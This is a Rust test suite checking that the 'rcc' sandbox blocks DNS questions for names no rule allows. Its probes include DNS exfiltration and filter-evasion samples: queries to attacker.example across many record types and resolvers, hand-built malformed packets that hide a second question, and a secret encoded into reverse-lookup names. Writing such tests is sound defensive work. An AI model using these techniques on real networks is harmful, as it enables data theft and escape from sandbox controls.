//! DNS is closed: a name that no rule allows never leaves the host, whatever type, transport, form or resolver.
//!
//! The resolver behind the host logs every question, the wire between the two is recorded, and every question carries a
//! label of its own. The control: the same questions from the host do arrive.

#![forbid(unsafe_code)]
#![expect(
    clippy::unwrap_used,
    reason = "helpers of tests: what is not as expected must fail the test"
)]

mod support;

use std::collections::BTreeSet;

use rcc_testkit::dns::type_number;
use rcc_testkit::probe::Record;
use rcc_testkit::require;
use rcc_testkit::world::wire::DnsQuery;
use rcc_testkit::world::{HostCommand, Output, World};
use support::{Place, assert_soon, words};

/// Extended DNS Error 15, "Blocked" (RFC 8914 section 4.16).
const BLOCKED: u64 = 15;
/// RFC 1035 section 4.1.1.
const REFUSED: u64 = 5;

const ALLOW: &[&str] = &[
    "--allow",
    "allowed.example",
    "--allow",
    "*.allowed.example",
    "--allow",
    "v4only.example",
];

const TYPES: &[&str] = &[
    "A",
    "AAAA",
    "TXT",
    "MX",
    "SRV",
    "NULL",
    "ANY",
    "HTTPS",
    "SVCB",
    "PTR",
    "NS",
    "SOA",
    "CNAME",
    "NAPTR",
    "CAA",
    "DS",
    "DNSKEY",
    "TYPE65534",
];

/// Whom a program could ask: the sandbox's gateway, the host's resolver, a hostile one, others in public, private and
/// metadata ranges, and addresses where nobody answers; on IPv4 and IPv6.
const SERVERS: &[&str] = &[
    "198.18.0.1",
    "fd72:6363::1",
    "203.0.113.53",
    "2001:db8::53",
    "203.0.113.55",
    "198.51.100.53",
    "192.168.77.53",
    "169.254.169.253",
    "192.0.2.53",
    "2001:db8:8888::8844",
    "fd00:77::53",
    "198.18.77.1",
    "64:ff9b::cb00:7135",
];

/// The resolver of the host.
const RESOLVER: &str = "203.0.113.53";

/// One question: server, transport, name, type, options.
type Question = Vec<String>;

fn question(server: &str, transport: &str, name: &str, kind: &str, options: &[&str]) -> Question {
    let mut line = words(&["dns", server, transport, name, kind]);
    line.extend(words(options));
    line
}

/// Every way of asking that should be refused with an explanation. The names begin with `prefix`, so that no two
/// callers share one.
fn questions(prefix: &str, servers: &[&str]) -> Vec<Question> {
    let mut list = Vec::new();
    let mut number = 0;
    let mut name = |below: &str| {
        number += 1;
        format!("{prefix}{number}.{below}")
    };
    for transport in ["udp", "tcp"] {
        for kind in TYPES {
            list.push(question(
                servers[0],
                transport,
                &name("attacker.example"),
                kind,
                &["edns=1232"],
            ));
        }
        for server in servers {
            for kind in ["A", "TXT"] {
                list.push(question(
                    server,
                    transport,
                    &name("attacker.example"),
                    kind,
                    &["edns=1232"],
                ));
            }
        }
        // Sizes, flags (none, authentic data, checking disabled), a long chain of labels, the longest label, odd letters.
        for options in [
            &["edns=512"][..],
            &["edns=4096"],
            &["edns=1", "flags=0"],
            &["edns=1232", "flags=288"],
            &["edns=1232", "flags=272"],
        ] {
            list.push(question(
                servers[0],
                transport,
                &name("denied.example"),
                "A",
                options,
            ));
        }
        let chain = "d.".repeat(60) + "attacker.example";
        let long = "y".repeat(63) + ".attacker.example";
        let names = [
            name(&chain),
            name(&long),
            name("ATTACKER.eXample"),
            name("allowed.example.attacker.example"),
            name("evil-allowed.example"),
            name("_udp.attacker.example"),
            name("xn--bcher-kva.example"),
        ];
        for name in names {
            list.push(question(servers[0], transport, &name, "A", &["edns=1232"]));
        }
    }
    list
}

/// Everything that the two servers behind the host were asked.
fn upstream(world: &World) -> Vec<DnsQuery> {
    let mut all = world.dns_queries();
    all.extend(world.strange_queries());
    all
}

/// Fails if the label shows anywhere behind the host: in a question, or in the bytes of any packet.
#[track_caller]
fn assert_nothing_left(world: &World, label: &str) {
    let asked: Vec<_> = upstream(world)
        .into_iter()
        .filter(|query| query.name.to_ascii_lowercase().contains(label))
        .collect();
    assert_eq!(asked, [], "a question left the host");
    let packets: Vec<_> = world
        .packets()
        .into_iter()
        .filter(|packet| packet.contains(label.as_bytes()))
        .collect();
    assert_eq!(packets, [], "the label left the host");
}

fn milliseconds(record: &Record) -> f64 {
    record.detail["milliseconds"]
        .as_f64()
        .unwrap_or_else(|| panic!("no time in {record:?}"))
}

#[track_caller]
fn assert_refused(line: &Question, record: &Record) {
    assert!(
        !record.ok && record.detail["code"] == REFUSED,
        "{line:?}: {record:?}"
    );
    assert_eq!(record.detail["id_matches"], true, "{line:?}: {record:?}");
    assert_eq!(
        record.detail["answers"],
        serde_json::json!([]),
        "{line:?}: {record:?}"
    );
    assert_soon(milliseconds(record), &format!("{line:?}: {record:?}"));
}

#[test]
fn no_question_for_a_name_that_is_not_allowed_leaves_the_host() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "closed");

    // The control: from the host every one of these questions arrives at the resolver.
    let control = questions("control-", &[RESOLVER, "2001:db8::53"]);
    for line in &control {
        // What the servers say is theirs; that they were asked is ours.
        let _ = world.probe(line);
    }
    let arrived: BTreeSet<String> = upstream(&world)
        .into_iter()
        .map(|query| query.name.to_ascii_lowercase())
        .collect();
    for line in &control {
        assert!(
            arrived.contains(&line[3].to_ascii_lowercase()),
            "the control {line:?} did not arrive"
        );
    }
    assert!(
        world
            .packets()
            .iter()
            .any(|packet| packet.contains(b"control-1")),
        "the wire is recorded"
    );

    world.forget();
    let lines = questions("leak-", SERVERS);
    let (records, _) = place.probes(ALLOW, &lines);
    for (line, record) in lines.iter().zip(&records) {
        assert_refused(line, record);
        let name = line[3].to_ascii_lowercase();
        assert_eq!(
            record.detail["extended_error"][0], BLOCKED,
            "{line:?}: {record:?}"
        );
        let text = record.detail["extended_error"][1].as_str().unwrap();
        assert!(
            text.starts_with("rcc refused the query for ") && text.contains("(no_rule)"),
            "{line:?}: {text}"
        );
        // The text is limited; a name that fits is named.
        assert!(
            name.len() > 100 || text.to_ascii_lowercase().contains(&name),
            "{line:?}: {text}"
        );
    }
    assert_nothing_left(&world, "leak-");

    // Each is in the log, once, with its type and the reason.
    let mut logged: Vec<(String, String)> = Vec::new();
    for event in place.events() {
        assert_eq!(
            (event["event"].as_str(), event["reason"].as_str()),
            (Some("dns"), Some("no_rule")),
            "{event}"
        );
        assert_eq!(
            (event["rcode"].as_str(), event["verdict"].as_str()),
            (Some("REFUSED"), Some("deny")),
            "{event}"
        );
        logged.push((
            event["name"].as_str().unwrap().to_owned(),
            event["question"].as_str().unwrap().to_owned(),
        ));
    }
    // Some types are numbers in the log and names here.
    let number = |kind: &str| type_number(kind).unwrap();
    let logged: Vec<(String, u16)> = logged
        .into_iter()
        .map(|(name, kind)| (name, number(&kind)))
        .collect();
    let asked: Vec<(String, u16)> = lines
        .iter()
        .map(|line| (line[3].to_ascii_lowercase(), number(&line[4])))
        .collect();
    assert_eq!(logged, asked);
}

#[test]
fn messages_that_are_not_one_plain_question_reach_nobody() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "odd");
    let hex = |bytes: &[u8]| {
        bytes
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect::<String>()
    };
    let label = |text: &str| {
        let length = u8::try_from(text.len()).unwrap();
        [&[length][..], text.as_bytes()].concat()
    };
    let name = [
        label("leak-raw"),
        label("attacker"),
        label("example"),
        vec![0],
    ]
    .concat();
    let allowed = [label("allowed"), label("example"), vec![0]].concat();
    let header = |questions: u8, answers: u8, flags: [u8; 2]| {
        vec![
            0x52, 0x43, flags[0], flags[1], 0, questions, 0, answers, 0, 0, 0, 0,
        ]
    };
    let tail = [0, 1, 0, 1];
    let raws: Vec<(&str, Vec<u8>)> = vec![
        ("no question at all", header(0, 0, [1, 0])),
        (
            "a question that is not announced",
            [header(0, 0, [1, 0]), name.clone(), tail.to_vec()].concat(),
        ),
        (
            "an answer",
            [header(1, 0, [0x81, 0x80]), name.clone(), tail.to_vec()].concat(),
        ),
        (
            "a record in the question's place",
            [
                header(0, 1, [1, 0]),
                name.clone(),
                tail.to_vec(),
                vec![0, 0, 0, 9, 0, 4, 1, 2, 3, 4],
            ]
            .concat(),
        ),
        (
            "opcode notify",
            [header(1, 0, [0x21, 0]), name.clone(), tail.to_vec()].concat(),
        ),
        (
            "opcode update",
            [header(1, 0, [0x29, 0]), name.clone(), tail.to_vec()].concat(),
        ),
        (
            "bytes behind an allowed question",
            [
                header(1, 0, [1, 0]),
                allowed.clone(),
                tail.to_vec(),
                label("leak-behind"),
            ]
            .concat(),
        ),
        (
            "a cut name",
            [header(1, 0, [1, 0]), name[..12].to_vec()].concat(),
        ),
        (
            "a pointer to itself",
            [
                header(1, 0, [1, 0]),
                label("leak-loop"),
                vec![0xc0, 12],
                tail.to_vec(),
            ]
            .concat(),
        ),
        (
            "a pointer behind the end",
            [
                header(1, 0, [1, 0]),
                label("leak-far"),
                vec![0xc1, 0xff],
                tail.to_vec(),
            ]
            .concat(),
        ),
        (
            "a label of 64 bytes",
            [
                header(1, 0, [1, 0]),
                [&[64][..], &[b'x'; 64]].concat(),
                vec![0],
                tail.to_vec(),
            ]
            .concat(),
        ),
    ];
    let mut lines = Vec::new();
    for transport in ["udp", "tcp"] {
        // Two questions: the allowed one must not carry the other out, nor be answered alone as if it were the whole.
        for (first, second) in [
            ("allowed.example", "leak-second.attacker.example/A"),
            ("leak-first.attacker.example", "allowed.example/A"),
        ] {
            lines.push(question(
                RESOLVER,
                transport,
                first,
                "A",
                &["edns=1232", &format!("also={second}")],
            ));
        }
        for class in ["class=3", "class=4", "class=255"] {
            lines.push(question(
                RESOLVER,
                transport,
                "leak-class.attacker.example",
                "TXT",
                &[class],
            ));
            lines.push(question(
                RESOLVER,
                transport,
                "leak-class.allowed.example",
                "TXT",
                &[class],
            ));
        }
        // Bytes that no host name has, inside what looks allowed: one label with a dot, a zero byte, spaces, line ends.
        for odd in [
            r"leak-dot\.allowed.example",
            r"leak-nul\000.allowed.example",
            r"leak-crlf\013\010.allowed.example",
            r"leak space.allowed.example",
            r"leak-percent%00.allowed.example",
            r"leak-at@.allowed.example",
            r"leak-high\255.allowed.example",
            r"allowed.example\000.leak-end.attacker.example",
        ] {
            lines.push(question(RESOLVER, transport, odd, "A", &["edns=1232"]));
        }
        // A zone transfer and its kin.
        for kind in ["AXFR", "IXFR"] {
            lines.push(question(
                RESOLVER,
                transport,
                "leak-zone.allowed.example",
                kind,
                &[],
            ));
        }
        for (_, raw) in &raws {
            let raw = format!("raw={}", hex(raw));
            lines.push(question(
                RESOLVER,
                transport,
                "unused.example",
                "A",
                &[&raw, "timeout=300"],
            ));
        }
    }
    // The control: plain questions with such bytes do arrive from the host, so the record would show them.
    let _ = world.probe(question(
        RESOLVER,
        "udp",
        r"control-nul\000.attacker.example",
        "A",
        &[],
    ));
    let _ = world.probe(question(
        "203.0.113.55",
        "udp",
        r"control-dot\.attacker.example",
        "A",
        &[],
    ));
    assert!(
        world
            .packets()
            .iter()
            .any(|packet| packet.contains(b"control-nul\0"))
    );
    assert!(
        world
            .strange_queries()
            .iter()
            .any(|query| query.name.contains("control-dot"))
    );

    world.forget();
    let before = world.dns_queries().len();
    let (records, _) = place.probes(ALLOW, &lines);
    let mut ended = BTreeSet::new();
    for (line, record) in lines.iter().zip(&records) {
        // Refused, an error about the format, "not implemented" or silence, as RFC 1035 knows them; never an answer.
        let what = format!("{line:?}: {record:?}");
        match record.detail["code"].as_u64() {
            Some(code) => {
                let is_behind = line.iter().any(|word| word.contains(&hex(b"leak-behind")));
                assert!([1, 4, REFUSED].contains(&code) || is_behind, "{what}");
                assert_soon(milliseconds(record), &what);
                ended.insert(code);
            }
            None => assert!(!record.ok, "{what}"),
        }
    }
    assert!(ended.contains(&REFUSED) && ended.contains(&1), "{ended:?}");
    assert_nothing_left(&world, "leak");
    // Of all this at most the one allowed question was asked, clean of what stood behind it.
    let asked: BTreeSet<String> = world
        .dns_queries()
        .split_off(before)
        .into_iter()
        .map(|query| query.name)
        .collect();
    assert!(
        asked.iter().all(|name| name == "allowed.example"),
        "{asked:?}"
    );
}

#[test]
fn reverse_names_and_service_names_carry_nothing_out() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "reverse");
    let nibbles = |secret: &str| {
        let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
        hex.chars()
            .map(|digit| format!("{digit}."))
            .collect::<String>()
    };
    let v6 = format!("{}ip6.arpa", nibbles("secret-in-16-byt"));
    let lines: Vec<Question> = [
        ("20.113.0.203.in-addr.arpa", "PTR"),
        ("1.0.0.127.in-addr.arpa.attacker.example", "PTR"),
        ("10.77.168.192.in-addr.arpa", "PTR"),
        ("254.169.254.169.in-addr.arpa", "PTR"),
        ("1.113.0.203.in-addr.arpa", "PTR"),
        ("20.113.0.203.in-addr.arpa", "TXT"),
        (&v6, "PTR"),
        ("_ssh._tcp.denied.example", "SRV"),
        ("_ssh._tcp._leak.allowed.example.attacker.example", "SRV"),
        ("_443._tcp.denied.example", "HTTPS"),
    ]
    .iter()
    .map(|(name, kind)| question("198.18.0.1", "udp", name, kind, &["edns=1232"]))
    .collect();
    for line in &lines {
        let _ = world.probe(question(RESOLVER, "udp", &line[3], &line[4], &[]));
    }
    let arrived: BTreeSet<String> = world
        .dns_queries()
        .into_iter()
        .map(|query| query.name)
        .collect();
    for line in &lines {
        assert!(
            arrived.contains(&line[3]),
            "the control {line:?} did not arrive: {arrived:?}"
        );
    }

    let before = world.dns_queries().len();
    let (records, _) = place.probes(ALLOW, &lines);
    for (line, record) in lines.iter().zip(&records) {
        assert_refused(line, record);
        assert_eq!(
            record.detail["extended_error"][0], BLOCKED,
            "{line:?}: {record:?}"
        );
    }
    assert_eq!(
        world.dns_queries().split_off(before),
        [],
        "a question left the host"
    );
}

#[test]
fn allowed_names_resolve_and_only_their_canonical_form_leaves() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "allowed");
    let ask = |server: &str, transport: &str, name: &str, kind: &str| {
        question(server, transport, name, kind, &["edns=1232"])
    };
    let mut lines = vec![
        ask("198.18.0.1", "udp", "allowed.example", "A"),
        ask("fd72:6363::1", "udp", "aLLowed.eXample", "AAAA"),
        ask("203.0.113.53", "tcp", "allowed.example", "A"),
        ask("2001:db8::53", "tcp", "allowed.example", "A"),
        ask("192.0.2.53", "udp", "allowed.example", "A"),
        ask("198.18.0.1", "udp", "v4only.example", "A"),
        // Both families exist if either does: the gateway connects them.
        ask("198.18.0.1", "udp", "v4only.example", "AAAA"),
        ask("198.18.0.1", "udp", "allowed.example", "TXT"),
        ask("198.18.0.1", "udp", "allowed.example", "MX"),
        ask("198.18.0.1", "udp", "_ssh._tcp.allowed.example", "SRV"),
        ask("198.18.0.1", "udp", "allowed.example", "CAA"),
        ask("198.18.0.1", "udp", "allowed.example", "HTTPS"),
        ask("198.18.0.1", "udp", "allowed.example", "ANY"),
        ask("198.18.0.1", "udp", "missing.allowed.example", "A"),
        ask("198.18.0.1", "udp", "allowed.example", "NULL"),
        ask("198.18.0.1", "udp", "localhost", "A"),
    ];
    // Whatever the client adds to its question stays here.
    lines.push(question(
        "198.18.0.1",
        "udp",
        "deep.sub.allowed.example",
        "A",
        &["edns=4096", "flags=304"],
    ));
    let before = world.dns_queries().len();
    let (records, _) = place.probes(ALLOW, &lines);
    let answers = |index: usize| records[index].detail["answers"].clone();
    let data = |index: usize| answers(index)[0][3].as_str().unwrap_or_default().to_owned();
    for index in [0, 2, 3, 4] {
        assert_eq!(
            data(index),
            data(0),
            "one name has one address in a run: {:?}",
            records[index]
        );
        assert_soon(
            milliseconds(&records[index]),
            &format!("{:?}", records[index]),
        );
    }
    assert!(
        data(0).starts_with("198.18.") && data(1).starts_with("fd72:6363:0:1:"),
        "{records:?}"
    );
    assert_eq!(
        answers(1)[0][0],
        "aLLowed.eXample",
        "the case of the question comes back"
    );
    assert!(
        data(5).starts_with("198.18.") && data(5) != data(0),
        "{records:?}"
    );
    assert!(data(6).starts_with("fd72:6363:0:1:"), "{records:?}");
    let txt: String = "text of an allowed name"
        .bytes()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    assert!(data(7).ends_with(&txt), "{:?}", records[7]);
    for (index, kind) in [(8, "MX"), (9, "SRV"), (10, "CAA")] {
        assert_eq!(answers(index)[0][1], kind, "{:?}", records[index]);
    }
    // No way to Encrypted Client Hello, and the answer to ANY that says nothing (RFC 8482).
    assert_eq!(answers(11), serde_json::json!([]), "{:?}", records[11]);
    assert_eq!(answers(12)[0][1], "TYPE13", "{:?}", records[12]);
    assert_eq!(records[13].detail["code"], 3, "{:?}", records[13]);
    // A type that carries arbitrary bytes and that nothing needs.
    assert_refused(&lines[14], &records[14]);
    assert_eq!(data(15), "127.0.0.1");
    assert!(data(16).starts_with("198.18."), "{:?}", records[16]);

    let asked: BTreeSet<(String, String)> = world
        .dns_queries()
        .split_off(before)
        .into_iter()
        .map(|query| (query.name, query.record_type))
        .collect();
    let expected: BTreeSet<(String, String)> = [
        ("allowed.example", "A"),
        ("allowed.example", "AAAA"),
        ("v4only.example", "A"),
        ("v4only.example", "AAAA"),
        ("allowed.example", "TXT"),
        ("allowed.example", "MX"),
        ("_ssh._tcp.allowed.example", "SRV"),
        ("allowed.example", "CAA"),
        ("missing.allowed.example", "A"),
        ("missing.allowed.example", "AAAA"),
        ("deep.sub.allowed.example", "A"),
        ("deep.sub.allowed.example", "AAAA"),
    ]
    .iter()
    .map(|(name, kind)| ((*name).to_owned(), (*kind).to_owned()))
    .collect();
    // dnsmasq knows CAA by its number.
    let asked: BTreeSet<(String, String)> = asked
        .into_iter()
        .map(|(name, kind)| {
            (
                name,
                if ["type=257", "TYPE257", "257"].contains(&kind.as_str()) {
                    "CAA".to_owned()
                } else {
                    kind
                },
            )
        })
        .collect();
    assert_eq!(asked, expected);
}

#[test]
fn a_rule_for_a_resolver_does_not_open_dns() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "resolver");
    let flags = [
        "--allow",
        "203.0.113.53:53",
        "--allow",
        "203.0.113.55:53,853,443",
        "--allow",
        "[2001:db8::53]:53",
    ];
    let lines: Vec<Question> = ["203.0.113.53", "203.0.113.55", "2001:db8::53"]
        .iter()
        .flat_map(|server| {
            ["udp", "tcp"].map(|transport| {
                question(
                    server,
                    transport,
                    "leak-direct.attacker.example",
                    "A",
                    &["edns=1232"],
                )
            })
        })
        .collect();
    let (records, _) = place.probes(&flags, &lines);
    for (line, record) in lines.iter().zip(&records) {
        assert_refused(line, record);
    }
    assert_nothing_left(&world, "leak-");
    // DNS over TLS and over HTTPS are connections like others: no rule, no connection.
    let lines = ["853", "443"].map(|port| {
        words(&[
            "tcp-talk",
            "203.0.113.53",
            port,
            r"\x16\x03\x01\x00\x04\x01\x00\x00\x00",
        ])
    });
    let (records, _) = place.probes(ALLOW, &lines);
    for record in &records {
        assert_eq!(record.detail["hex"], "15030300020231", "{record:?}");
    }
    assert!(world.seen_by("203.0.113.53:443").connections == 0);
}

#[test]
fn names_of_the_local_network_never_leave_in_any_mode() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "local");
    let names = [
        "leak-printer",
        "leak-nas.local",
        "leak-db.internal",
        "leak-router.lan",
        "leak-x.home.arpa",
        "leak-y.onion",
        "leak-z.localdomain",
    ];
    let lines: Vec<Question> = names
        .iter()
        .map(|name| question("198.18.0.1", "udp", name, "A", &["edns=1232"]))
        .collect();
    for line in &lines {
        let _ = world.probe(question(
            RESOLVER,
            "udp",
            &line[3].replace("leak-", "control-"),
            "A",
            &[],
        ));
    }
    let arrived = world.dns_queries();
    assert!(
        arrived
            .iter()
            .any(|query| query.name == "control-nas.local"),
        "{arrived:?}"
    );
    for flags in [&["--network", "internet"][..], &["--network", "allowlist"]] {
        let (records, _) = place.probes(flags, &lines);
        for (line, record) in lines.iter().zip(&records) {
            assert_refused(line, record);
        }
    }
    assert_nothing_left(&world, "leak-");
}

// ---------------------------------------------------------------------------------------------------------------------
// real clients

/// Asks with a real program in the sandbox; the script gets the name as `$1`.
fn client<'w>(place: &Place<'w>, script: &[&str], name: &str) -> HostCommand<'w> {
    place.run(ALLOW).args(script).arg(name)
}

/// Every client finds the allowed name, and is told at once that the other one is refused.
fn check_client(place: &Place<'_>, script: &[&str], refused: impl Fn(&Output)) {
    let world = place.world;
    // Names differ between the calls in one world: the log of the resolver is one.
    let label = &format!(
        "leak-client.{}.attacker.example",
        place.project.file_name().unwrap().display()
    );
    // The control: on the host it finds both.
    for name in ["allowed.example", "control-client.attacker.example"] {
        let control = world
            .host_command(script[0])
            .args(&script[1..])
            .arg(name)
            .output();
        assert!(
            control
                .assert_success()
                .stdout_text()
                .contains("203.0.113."),
            "{control}"
        );
    }
    let found = client(place, script, "allowed.example").output();
    assert!(
        found.assert_success().stdout_text().contains("198.18."),
        "{found}"
    );
    place.forget_events();
    let output = client(place, script, label).output();
    refused(&output);
    assert!(
        output.stderr_text().contains(&format!(
            "rcc: refused {label} (no rule of this sandbox allows this host)"
        )),
        "{output}"
    );
    let briefs = place.briefs();
    assert!(
        !briefs.is_empty()
            && briefs
                .iter()
                .all(|line| line.starts_with(&format!("dns {label} "))
                    && line.ends_with("REFUSED deny no_rule")),
        "{briefs:#?}"
    );
    assert_nothing_left(world, "leak-");
}

#[test]
fn dig_shows_the_reason() {
    if !require("dig") {
        return;
    }
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let place = Place::new(&world, "dig");
    let mut times = Vec::new();
    let dig = ["dig", "+time=2", "+tries=1"];
    for transport in ["+notcp", "+tcp"] {
        let control = world
            .host_command("dig")
            .args(&dig[1..])
            .args([transport, "@203.0.113.55", "control-dig.attacker.example"])
            .output();
        assert!(
            control
                .assert_success()
                .stdout_text()
                .contains("status: NOERROR"),
            "{control}"
        );
        for server in ["@198.18.0.1", "@203.0.113.55", "@2001:db8::53"] {
            let output = place
                .run(ALLOW)
                .args(dig)
                .args([transport, server, "leak-dig.attacker.example", "TXT"])
                .output();
            let text = output.assert_success().stdout_text();
            assert!(text.contains("status: REFUSED"), "{output}");
            let reason =
                "EDE: 15 (Blocked): (rcc refused the query for leak-dig.attacker.example: no rule";
            assert!(text.contains(reason), "{output}");
            times.push(
                text.split("Query time: ")
                    .nth(1)
                    .unwrap()
                    .split(' ')
                    .next()
                    .unwrap()
                    .parse::<u64>()
                    .unwrap(),
            );
        }
    }
    // The fastest counts: the others measure how busy the machine is.
    assert!(times.iter().min().unwrap() < &100, "{times:?}");
    assert_nothing_left(&world, "leak-");
}

#[test]
fn getent_is_refused_at_once() {
    // getent(1): 2 means that the name was not found.
    if !require("getent") {
        return;
    }
    let Some(world) = World::start_or_skip() else {
        return;
    };
    check_client(
        &Place::new(&world, "getent"),
        &["getent", "ahosts"],
        |output| {
            assert_eq!(output.code(), Some(2), "{output}");
            assert!(output.elapsed.as_secs() < 2, "{output}");
        },
    );
}

#[test]
fn python_is_refused_at_once() {
    // The fastest of three counts: a single one measures how busy the machine is.
    let script = "import socket, sys, time\ntimes = []\nfor _ in range(3):\n    start = time.monotonic()\n    try:\n        print(socket.getaddrinfo(sys.argv[1], 80))\n\
                  \x20   except socket.gaierror:\n        times.append((time.monotonic() - start) * 1000)\nif times:\n    print('gaierror', min(times))\n";
    if !require("/usr/bin/python3") {
        return;
    }
    let Some(world) = World::start_or_skip() else {
        return;
    };
    check_client(
        &Place::new(&world, "python"),
        &["/usr/bin/python3", "-c", script],
        |output| {
            let text = output.assert_success().stdout_text();
            let time: f64 = text
                .trim()
                .strip_prefix("gaierror ")
                .unwrap_or_else(|| panic!("{output}"))
                .parse()
                .unwrap();
            assert_soon(time, &output.to_string());
        },
    );
}

#[test]
fn node_is_refused_at_once_by_the_c_library_and_by_its_own_resolver() {
    if !require("node") {
        return;
    }
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let calls = [
        "dns.promises.lookup(name, { all: true })",
        "dns.promises.resolve4(name)",
    ];
    for (number, call) in calls.iter().enumerate() {
        let script = "const dns = require('dns'), name = process.argv[1], times = [];\n\
             for (let round = 0; round < 3; round++) {\n\
               const start = performance.now();\n\
               try { console.log(JSON.stringify(await_this)); } catch (error) { times.push([error.code, performance.now() - start]); }\n\
             }\n\
             if (times.length) console.log(times[0][0], Math.min(...times.map(it => it[1])));";
        let script = format!(
            "(async () => {{ {} }})()",
            script.replace("await_this", &format!("await {call}"))
        );
        check_client(
            &Place::new(&world, &format!("node-{number}")),
            &["node", "-e", &script],
            |output| {
                let text = output.assert_success().stdout_text();
                let (code, time) = text
                    .trim()
                    .split_once(' ')
                    .unwrap_or_else(|| panic!("{output}"));
                assert!(
                    ["ENOTFOUND", "EREFUSED", "EAI_AGAIN"].contains(&code),
                    "{output}"
                );
                assert_soon(time.parse().unwrap(), &output.to_string());
            },
        );
    }
}
